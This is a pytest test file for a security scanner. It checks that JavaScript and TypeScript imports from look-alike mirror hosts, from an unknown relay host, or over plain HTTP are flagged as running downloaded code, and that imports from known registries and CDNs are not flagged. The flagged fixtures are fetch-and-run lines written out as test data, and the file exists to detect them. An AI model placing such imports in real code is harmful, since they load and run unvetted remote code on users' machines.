"""A module imported from a web address is downloaded and run as the program loads (Deno, browsers):
from a registry or package CDN it is a package import, from any other host it is unvetted code."""

from __future__ import annotations

from pathlib import Path

import pytest

from behaviour_files import analyse_file
from skillgrade.rules.security.behaviour.model import Kind, Language


@pytest.mark.parametrize(
    ("rel", "source"),
    [
        ("tools/lint.ts", 'import { check } from "https://jsr.io.mod-mirror.example.net/@std/yaml/mod.ts";\n'
                          "check(Deno.args[0]);\n"),
        ("tools/load.mjs", "const mod = await import('https://static.quiet-relay.example.net/m.js');\n"
                           "mod.run(process.argv[2]);\n"),
        ("tools/side.ts", "import 'http://deno.land/x/tidy@1.0.0/mod.ts';\nconsole.log(Deno.cwd());\n"),
    ],
)  # fmt: skip
def test_a_module_from_an_unvetted_host_or_over_plain_http_runs_downloaded_code(
    tmp_path: Path, rel: str, source: str
) -> None:
    found = analyse_file(tmp_path, rel, source, Language.JAVASCRIPT)
    assert Kind.EXEC_FETCHED in {c.kind for c in found}


def test_modules_from_registries_and_package_cdns_stay_quiet(tmp_path: Path) -> None:
    source = (
        'import { walk } from "https://deno.land/std@0.224.0/fs/walk.ts";\n'
        'import { parse } from "jsr:@std/yaml";\n'
        'import dayjs from "https://esm.sh/dayjs@1.11.10";\n'
        "const chart = await import('https://cdn.jsdelivr.net/npm/chart.js@4/+esm');\n"
        "for await (const e of walk(Deno.args[0])) console.log(e.path, parse, dayjs, chart);\n"
    )
    found = analyse_file(tmp_path, "tools/scan.ts", source, Language.JAVASCRIPT)
    assert not {c.kind for c in found} & {Kind.EXEC_FETCHED, Kind.EXEC_DYNAMIC}
